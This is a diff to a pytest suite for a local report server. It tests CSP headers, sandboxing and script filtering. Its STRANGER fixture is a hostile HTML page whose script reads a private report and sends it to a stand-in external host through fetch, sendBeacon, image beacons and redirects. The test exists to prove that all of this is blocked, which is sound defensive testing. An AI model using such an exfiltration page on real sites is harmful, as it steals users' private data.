@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import base64
 import fcntl
+import hashlib
 import http.client
 import json
 import os
 import re
+import socket
 import threading
 import time
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from pathlib import Path
 
 import pytest
@@ -20,6 +23,7 @@ from hypothesis import strategies as st
 from harness.cli.report import announce_page, write
 from harness.cli.ui import ADDRESS, Renewal, Server
 from harness.records import SweepRecord
+from reports.page.templating import shipped_scripts
 from tests.harness.cli.conftest import Bench
 from tests.reports.page.browser import run_chromium
 from tests.reports.synthetic import write_sweep
@@ -169,13 +173,41 @@ def test_head_sends_no_body_and_a_known_version_no_page(ask: Ask) -> None:
     assert ask(PAGE, If_None_Match='"another"').status == 200
 
 
-def test_only_the_scripts_of_a_page_may_run_in_it(ask: Ask) -> None:
+def test_only_the_scripts_of_a_page_may_run_in_it(ask: Ask, home: Path) -> None:
     for path in (PAGE, "/", "/nowhere"):
         assert ask(path).headers["X-Content-Type-Options"] == "nosniff"
     policy = ask(PAGE).headers["Content-Security-Policy"]
     assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
     (scripts,) = re.findall(r"script-src ([^;]+);", policy)
-    assert re.fullmatch(r"'self' 'sha256-[\w+/]{43}='", scripts), "that of the page and no other, none in attributes"
+    shipped = [base64.b64encode(hashlib.sha256(one.encode()).digest()).decode() for one in shipped_scripts()]
+    assert scripts.split() == ["'self'", *(f"'sha256-{one}'" for one in shipped)], "not ours(), which the page holds"
+    assert "connect-src 'none'" in policy and "sandbox allow-scripts" in policy
+    file = ask("/question/report/data.csv").headers["Content-Security-Policy"]
+    assert "script-src 'none'; sandbox" in file and "allow-scripts" not in file
+    (home / "question" / "report" / "x.svg").write_text("<svg/>")
+    assert ask("/question/report/x.svg").headers["Content-Disposition"] == "attachment"
+
+
+@pytest.mark.parametrize(
+    ("script", "status"),
+    [
+        ('benchSamples("index",{"a":[1,"\\u003c"]});\n', 200),
+        ('benchSamples("index",{"a":fetch("/")});\n', 404),
+        ('benchSamples("index",[1]);fetch("/");\n', 404),
+        ('benchSamples("index",[1]);\nfetch("/")\n', 404),
+        ("fetch('/')", 404),
+    ],
+)
+def test_a_script_of_a_run_is_served_only_if_it_is_data(ask: Ask, home: Path, script: str, status: int) -> None:
+    (home / "question" / "report" / "index.js").write_text(script)
+    assert ask("/question/report/index.js").status == status
+
+
+def test_a_page_in_another_encoding_runs_nothing(ask: Ask, home: Path) -> None:
+    """Its bytes say one thing to us and another to the browser."""
+    (home / "question" / "report" / "utf16.html").write_text("<script>1</script>", encoding="utf-16")
+    policy = ask("/question/report/utf16.html").headers["Content-Security-Policy"]
+    assert "script-src 'none'; sandbox" in policy and "allow-scripts" not in policy
 
 
 def test_a_page_that_is_not_written_yet_says_how_far_its_run_is(tmp_path: Path) -> None:
@@ -314,8 +346,89 @@ addEventListener("load", () => {
 </script></body>"""
 
 
+STRANGER = """<html><head>
+<meta http-equiv="refresh" content="0; url={away}/refresh"><META HTTP-EQUIV=refresh CONTENT="1;{away}/refresh">
+<base href="{away}/base/"><link rel="preconnect" href="{away}"><link rel="stylesheet" href="{away}/style.css">
+<link rel="prefetch" href="{away}/prefetch"><link rel="icon" href="{away}/icon">
+<style>@import "{away}/import.css"; body {{ background: url({away}/background) }}</style>
+<script src="{away}/script.js"></script><script src="samples/index.js"></script><script src="/evil.js"></script>
+</head><body onload="document.title = 'ran'"><main>numbers</main>
+<img src="{away}/img" onerror="document.title = 'ran'"><iframe src="{away}/frame"></iframe>
+<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>
+<object data="{away}/object"></object><embed src="{away}/embed">
+<video src="{away}/video" poster="{away}/poster"></video>
+<form action="{away}/form"><input name="a" autofocus onfocus="this.form.submit()"></form>
+<svg onload="document.title = 'ran'"><image href="{away}/image"/><script>document.title = 'ran'</script></svg>
+<script>
+document.title = "ran";
+fetch("/private/report/index.html").then(answer => answer.text()).then(text => {{
+  fetch("{away}/fetch?" + text.length);
+  new Image().src = "{away}/beacon";
+  navigator.sendBeacon("{away}/beacon", text);
+  location = "{away}/location";
+}});
+document.forms[0].submit();
+</script></body></html>"""
+
+
 @pytest.mark.slow
-def test_an_open_page_changes_in_place(chromium: str, tmp_path: Path) -> None:
+def test_a_copied_page_runs_nothing_and_sends_nothing(chromium: str, tmp_path: Path) -> None:
+    home, reached = tmp_path / "runs", []
+    for name in ("copied", "private"):
+        write_sweep(home / name, {"base": 0.0}, seeds=2)
+    with socket.create_server((ADDRESS, 0)) as listener, serving(home) as server:
+        away = f"http://{ADDRESS}:{listener.getsockname()[1]}"
+        report = home / "copied" / "report"
+        evil = {report / name: STRANGER for name in ("index.html", "samples.html", "deep/page.html")}
+        evil |= dict.fromkeys((report / "samples" / "index.js", home / "evil.js"), "document.title = 'ran';")
+        for path, content in evil.items():
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(content.format(away=away))
+
+        def answer() -> None:
+            with suppress(OSError):
+                while True:
+                    connection, _ = listener.accept()
+                    reached.append(connection.recv(200))
+                    connection.close()
+
+        threading.Thread(target=answer, daemon=True).start()
+        server.renewal.look = lambda name: None  # type: ignore[method-assign]
+        for page in ("report/index.html", "report/samples.html", "report/deep/page.html"):
+            dom = in_browser(chromium, tmp_path, f"{server.address}copied/{page}", 5000)
+            assert "numbers" in dom and "<title>ran" not in dom, page
+    assert reached == []
+
+
+@pytest.mark.slow
+def test_pages_of_samples_work(chromium: str, tmp_path: Path) -> None:
+    sweep = write_sweep(tmp_path / "runs" / "question", {"base": 0.0, "up": 3.0}, seeds=2)
+    write(sweep.path)
+    with serving(tmp_path / "runs") as server:
+        for page in ("samples.html", "first_samples.html"):
+            dom = in_browser(chromium, tmp_path, f"{server.address}question/report/{page}#arm=up&seed=1", 5000)
+            first = dom.partition('<article class="sample">')[2]
+            assert first.startswith("<h2>seed 1, ") and "<b>up</b>" in first and "<b>base</b>" in first, page
+
+
+def in_browser(chromium: str, scratch: Path, address: str, budget_ms: int) -> str:
+    """The page at an address of this machine, as it is after so long."""
+    return run_chromium(
+        chromium,
+        scratch,
+        f"--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE {ADDRESS}",
+        "--window-size=1200,900",
+        f"--virtual-time-budget={budget_ms}",
+        "--dump-dom",
+        address,
+    )
+
+
+@pytest.mark.slow
+def test_an_open_page_changes_in_place(chromium: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (probe,) = re.findall(r"<script>(.*)</script>", _PROBE, re.DOTALL)
+    ours = shipped_scripts()
+    monkeypatch.setattr("reports.page.templating.shipped_scripts", lambda: [*ours, probe])
     sweep = write_sweep(tmp_path / "runs" / "question", {"base": 0.0, "up": 3.0, "down": -3.0}, seeds=3)
     write(sweep.path)
     page = sweep.path / "report" / "index.html"
@@ -331,15 +444,7 @@ def test_an_open_page_changes_in_place(chromium: str, tmp_path: Path) -> None:
 
     with serving(tmp_path / "runs") as server:
         server.renewal.look = look  # type: ignore[method-assign]
-        dom = run_chromium(
-            chromium,
-            tmp_path,
-            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
-            "--window-size=1200,900",
-            "--virtual-time-budget=20000",
-            "--dump-dom",
-            f"{server.address}question/report/index.html",
-        )
+        dom = in_browser(chromium, tmp_path, f"{server.address}question/report/index.html", 20000)
     seen = re.search(r'<pre id="seen">(.+?)</pre>', dom)
     assert seen is not None, dom[-600:]
     found = json.loads(seen[1])
